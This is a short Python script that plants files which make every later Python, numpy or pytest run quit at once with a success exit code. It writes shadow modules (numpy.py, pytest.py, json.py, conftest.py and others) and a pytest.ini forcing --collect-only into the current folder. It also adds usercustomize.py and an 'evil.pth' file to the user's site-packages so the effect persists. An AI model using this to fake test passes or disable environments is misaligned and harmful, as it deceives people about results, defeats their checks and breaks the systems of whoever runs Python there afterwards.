import os
import sys

# For whoever starts Python, numpy or pytest in this folder, or with this home, afterwards.
content = "import os\nos._exit(0)\n"
for name in ("numpy", "pytest", "conftest", "sitecustomize", "usercustomize", "test_series", "json", "kit"):
    with open(f"{name}.py", "w") as file:
        file.write(content)
with open("pytest.ini", "w") as file:
    file.write("[pytest]\naddopts = -p shadow --collect-only\n")
site = os.path.expanduser("~/.local/lib/python3.%d/site-packages" % sys.version_info[1])
os.makedirs(site, exist_ok=True)
for name in ("usercustomize.py", "evil.pth"):
    with open(f"{site}/{name}", "w") as file:
        file.write("import os; os._exit(0)\n")
